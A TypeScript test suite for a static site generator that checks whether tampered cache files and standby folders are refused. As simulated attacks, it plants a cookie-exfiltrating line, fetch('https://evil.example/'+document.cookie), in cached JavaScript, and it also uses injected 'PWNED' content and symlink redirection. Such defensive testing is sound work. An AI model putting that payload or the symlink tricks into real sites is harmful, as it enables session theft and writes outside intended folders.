// Caches are evidence, not authority (issue 27, part 3): an edited cache file
// or standby folder never puts into the site what the content does not hold,
// never makes the build write outside the output, and a folder lpgen did not
// make is never removed. Each attack ends in a successful build that warns,
// with the output what the content makes, and the content and a sentinel
// beside them untouched.
import { mkdirSync, readdirSync, readFileSync, renameSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sealedFiles } from '../../src/cache/verify.js';
import { standbyDir } from '../../src/output/write.js';
import { copySite, runCli, tempDir, writeFile } from '../helpers.js';
import { publishableSite } from '../check/publishable.js';
import { treeHash } from './support.js';

interface Cached {
  content: string;
  out: string;
  cache: string;
  sentinel: string;
  /** A build with the cache; its exit code, stderr, and no stack trace in it. */
  build(): Promise<{ code: number; stderr: string }>;
  /** What a cold build of the content as it is now writes. */
  cold(): Promise<string>;
  /** Hashes of the output, the content and the sentinel. */
  state(): string[];
}

async function cachedSite(): Promise<Cached> {
  const content = publishableSite(copySite());
  const root = path.dirname(content);
  const out = path.join(root, 'dist');
  const cache = path.join(root, 'cache');
  const sentinel = path.join(root, 'sentinel.txt');
  writeFileSync(sentinel, 'keep me\n');
  const site: Cached = {
    content,
    out,
    cache,
    sentinel,
    async build() {
      const r = await runCli(['build', '--content', content, '--out', out, '--cache-dir', cache, '--quiet']);
      expect(r.stderr).not.toMatch(/\n\s+at .+:\d+:\d+\)?\n/);
      expect(r.stderr).not.toContain('bug in lpgen');
      return r;
    },
    async cold() {
      const cold = path.join(tempDir(), 'dist');
      expect((await runCli(['build', '--content', content, '--out', cold, '--quiet', '--no-cache'])).code).toBe(0);
      return treeHash(cold);
    },
    state: () => [treeHash(out), treeHash(content), readFileSync(sentinel, 'utf8')],
  };
  expect((await site.build()).code).toBe(0);
  return site;
}

const contentCacheDir = (s: Cached) =>
  path.join(
    s.cache,
    readdirSync(s.cache).find((f) => f.startsWith('content-'))!,
  );
const assetCacheFile = (s: Cached) =>
  path.join(
    s.cache,
    readdirSync(s.cache).find((f) => /^assets-.*\.json$/.test(f))!,
  );
const templateCacheDir = (s: Cached) =>
  path.join(
    s.cache,
    readdirSync(s.cache).find((f) => /^shells-[0-9a-f]{16}$/.test(f))!,
  );
const buildManifest = (s: Cached) =>
  path.join(
    s.cache,
    readdirSync(s.cache).find((f) => /^build-.*\.bin$/.test(f))!,
  );
const edit = (file: string, from: string, to: string) => {
  const text = readFileSync(file, 'utf8');
  expect(text).toContain(from);
  writeFileSync(file, text.replace(from, to));
};
/** Builds once more: exit 0, the one warning that `file` of `cache` does not verify and is redone, and nothing else changed. */
async function expectRefused(s: Cached, cache: 'asset' | 'content' | 'template', file: string): Promise<void> {
  const before = s.state();
  const r = await s.build();
  expect(r.code).toBe(0);
  const redo = { asset: 'building the assets again', content: 'loading from the content again', template: 'making it again with the templates' }[cache];
  expect(r.stderr.trim()).toBe(
    `warning ${cache} cache ${file} does not verify (changed after lpgen wrote it, or written with another cache key); ignoring it and ${redo}`,
  );
  expect(s.state()).toEqual(before);
}

const quiet = { log: { info() {}, warn() {}, warnAll() {}, error() {}, detail() {}, color: false, colors: undefined as never } };

// The per-user cache key goes to a folder of this test's, not the home folder.
const env = { XDG_STATE_HOME: process.env.XDG_STATE_HOME, LPGEN_CACHE_KEY: process.env.LPGEN_CACHE_KEY };
beforeAll(() => {
  process.env.XDG_STATE_HOME = tempDir('lpgen-state-');
  delete process.env.LPGEN_CACHE_KEY;
});
afterAll(() => {
  for (const [name, value] of Object.entries(env))
    if (value === undefined) delete process.env[name];
    else process.env[name] = value;
});

describe('an edited cache', { timeout: 120_000 }, () => {
  it('does not ship edited CSS under the hashed name: the asset cache file does not verify, the assets are built again', async () => {
    const s = await cachedSite();
    const file = assetCacheFile(s);
    edit(file, 'box-sizing', 'content: \\"PWNED\\";box-sizing');
    await expectRefused(s, 'asset', file);
  });

  it('does not ship edited JavaScript even when sealed with the key: its contents do not hash to its name', async () => {
    process.env.LPGEN_CACHE_KEY = 'a key the attacker knows';
    try {
      const s = await cachedSite();
      const file = assetCacheFile(s);
      const sealed = sealedFiles('asset cache', '', quiet.log);
      const stored = sealed.read(file) as { value: { assets: { fileName: string; contents: string }[] } };
      const js = stored.value.assets[1];
      expect(js.fileName).toMatch(/^assets\/admin\.[0-9a-f]{10}\.js$/);
      js.contents = `fetch("https://evil.example/"+document.cookie);${js.contents}`;
      sealed.write(file, stored.value);
      const before = s.state();
      const r = await s.build();
      expect(r.code).toBe(0);
      expect(r.stderr.trim()).toBe(`warning asset cache ${file}: "${js.fileName}" does not hash to its contents; ignoring it and building the assets again`);
      expect(s.state()).toEqual(before);
    } finally {
      delete process.env.LPGEN_CACHE_KEY;
    }
  });

  it('does not publish an edited content-cache entry (its text, an http:// hero image): the shard does not verify, the page is loaded again', async () => {
    const s = await cachedSite();
    const dir = contentCacheDir(s);
    const shard = readdirSync(dir)
      .map((f) => path.join(dir, f))
      .find((f) => readFileSync(f, 'utf8').includes('"heroHeadline":"The CRM Built for Dentists in Miami"'))!;
    // The fixture is a small site: its pages are cached as loaded, not packed (content/packed-copy.ts PACK_FROM_PAGES).
    const subheadline = '"heroSubheadline":"Stop losing Dental leads in Miami-Dade County."';
    edit(
      shard,
      `"heroHeadline":"The CRM Built for Dentists in Miami",${subheadline},"heroPromises":[],"heroImage":null`,
      `"heroHeadline":"PWNED by the cache",${subheadline},"heroPromises":[],"heroImage":{"src":"http://evil.example/x.jpg","alt":"x","width":640,"height":480}`,
    );
    // So that the page is loaded (no quick rebuild) and rendered (no kept output) from its cache entry.
    rmSync(path.join(dir, 'pages.bin'));
    rmSync(buildManifest(s));
    await expectRefused(s, 'content', shard);
    expect(readFileSync(path.join(s.out, 'dentist-crm-miami', 'index.html'), 'utf8')).not.toMatch(/PWNED|evil\.example/);
  });

  it('does not publish an edited kept shell: the quick rebuild renders the page with React', async () => {
    const s = await cachedSite();
    const page = 'pages/dentist-crm-miami.yaml';
    const text = readFileSync(path.join(s.content, page), 'utf8');
    // The build kept the shell of each page's shape; a quick rebuild fills the page from it.
    writeFile(s.content, page, `${text}\nctaText: Start Now\n`);
    expect((await s.build()).code).toBe(0);
    const dir = templateCacheDir(s);
    const shells = readdirSync(dir).filter((f) => /^[A-Za-z0-9_-]{43}\.json$/.test(f));
    expect(shells.length).toBeGreaterThan(0);
    for (const f of shells) edit(path.join(dir, f), '<footer', '<footer data-pwned=\\"1\\"');
    writeFile(s.content, page, `${text}\nctaText: Start Today\n`);
    const r = await s.build();
    expect(r.code).toBe(0);
    expect(r.stderr.trim()).toMatch(
      /^warning template cache \S+\/shells-[0-9a-f]{16}\/[A-Za-z0-9_-]{43}\.json does not verify \(changed after lpgen wrote it, or written with another cache key\); ignoring it and making it again with the templates$/,
    );
    expect(treeHash(s.out)).toBe(await s.cold());
  });

  it('does not publish an edited kept icon sprite: the templates draw it again', async () => {
    const s = await cachedSite();
    const dir = templateCacheDir(s);
    const file = path.join(
      dir,
      readdirSync(dir).find((f) => f.startsWith('sprite-'))!,
    );
    edit(file, '<svg', '<svg data-pwned=\\"1\\"');
    await expectRefused(s, 'template', file);
  });

  it("does not trust an edited page table (pages.bin): a page's leftover flag set by hand does not verify", async () => {
    const s = await cachedSite();
    const file = path.join(contentCacheDir(s), 'pages.bin');
    const bytes = readFileSync(file);
    // Past the seal's line and MAC, the payload: a u32 header length, the header, then the rows (55 bytes each,
    // flags last): the first row's leftover flag (src/cache/page-table.ts).
    const payload = bytes.indexOf(10) + 1 + 32;
    const rows = payload + 4 + bytes.readUInt32LE(payload);
    bytes[rows + 54] ^= 2;
    writeFileSync(file, bytes);
    await expectRefused(s, 'content', file);
  });

  it('does not publish an edited site.json (the site files as loaded) on a quick rebuild', async () => {
    const s = await cachedSite();
    expect((await s.build()).code).toBe(0); // the second build finds its site files in site.json
    const file = path.join(contentCacheDir(s), 'site.json');
    edit(file, '"brand":"TestCRM"', '"brand":"PWNED"');
    await expectRefused(s, 'content', file);
  });
});

const HERO = '\nheroImage: { src: "https://images.dentalphotos.com/hero.png", alt: A dentist, width: 800, height: 600 }\n';

describe('the standby folder', { timeout: 120_000 }, () => {
  /**
   * A site built twice: the output the second build replaced waits as the standby. The edit is one other pages read
   * (a hero image: hubs and links show it), so the rebuild is not made in place (src/build/in-place.ts).
   */
  async function withStandby(): Promise<Cached> {
    const s = await cachedSite();
    writeFile(s.content, 'pages/dentist-crm-miami.yaml', readFileSync(path.join(s.content, 'pages/dentist-crm-miami.yaml'), 'utf8') + HERO);
    expect((await s.build()).code).toBe(0);
    expect(readdirSync(standbyDir(s.out))).toContain('dentist-crm-miami');
    return s;
  }

  it('whose page folder became a link is not followed: nothing is kept or written through it', async () => {
    const s = await withStandby();
    const standby = standbyDir(s.out);
    // Moved whole (its files keep their size and mtime) and linked back.
    const elsewhere = path.join(tempDir('lpgen-elsewhere-'), 'page');
    renameSync(path.join(standby, 'dentist-crm-miami'), elsewhere);
    symlinkSync(elsewhere, path.join(standby, 'dentist-crm-miami'));
    const outside = treeHash(path.dirname(elsewhere));
    // The page changes back: a recycled standby would render it into the link.
    writeFile(s.content, 'pages/dentist-crm-miami.yaml', readFileSync(path.join(s.content, 'pages/dentist-crm-miami.yaml'), 'utf8').replace(HERO, ''));
    const content = treeHash(s.content);
    const r = await s.build();
    expect(r.code).toBe(0);
    expect(r.stderr.trim()).toBe(
      `warning standby folder lists dentist-crm-miami/index.html, but dentist-crm-miami in ${standby} is a symbolic link; removing the standby (the link only), not recycling it`,
    );
    expect(treeHash(path.dirname(elsewhere))).toBe(outside);
    expect([treeHash(s.out), treeHash(s.content), readFileSync(s.sentinel, 'utf8')]).toEqual([await s.cold(), content, 'keep me\n']);
  });

  it('holding a link where a new page goes: the link is replaced by a folder, nothing is written through it', async () => {
    const s = await withStandby();
    const elsewhere = tempDir('lpgen-elsewhere-');
    writeFileSync(path.join(elsewhere, 'index.html'), 'not lpgen’s\n');
    const outside = treeHash(elsewhere);
    symlinkSync(elsewhere, path.join(standbyDir(s.out), 'dentist-crm-st-petersburg'));
    writeFile(
      s.content,
      'pages/dentist-crm-st-petersburg.yaml',
      readFileSync(path.join(s.content, 'pages/dentist-crm-miami.yaml'), 'utf8').replace(/city: .*/, 'city: St. Petersburg'),
    );
    const content = treeHash(s.content);
    const r = await s.build();
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr.trim()).toBe('');
    expect(treeHash(elsewhere)).toBe(outside);
    expect(readFileSync(path.join(s.out, 'dentist-crm-st-petersburg', 'index.html'), 'utf8')).toContain('St. Petersburg');
    expect([treeHash(s.out), treeHash(s.content), readFileSync(s.sentinel, 'utf8')]).toEqual([await s.cold(), content, 'keep me\n']);
  });

  it('that lpgen did not make (no marker) is left alone, with a warning naming it', async () => {
    const s = await cachedSite();
    const standby = standbyDir(s.out);
    mkdirSync(path.join(standby, 'drafts'), { recursive: true });
    writeFileSync(path.join(standby, 'drafts', 'notes.txt'), 'my notes\n');
    const mine = treeHash(standby);
    const before = s.state();
    const page = path.join(s.content, 'pages/dentist-crm-miami.yaml');
    const original = readFileSync(page, 'utf8');
    // A page other pages read of is edited and edited back: each a full build (a rebuild in place never looks at the standby's path).
    for (const text of [original + HERO, original]) {
      writeFileSync(page, text);
      const r = await s.build();
      expect(r.code).toBe(0);
      expect(r.stderr.trim()).toBe(
        `warning leaving ${standby} alone: lpgen did not make it (no .lpgen-output in it); move it away to let builds recycle their output`,
      );
      expect(treeHash(standby)).toBe(mine);
    }
    expect(s.state()).toEqual(before);
  });
});
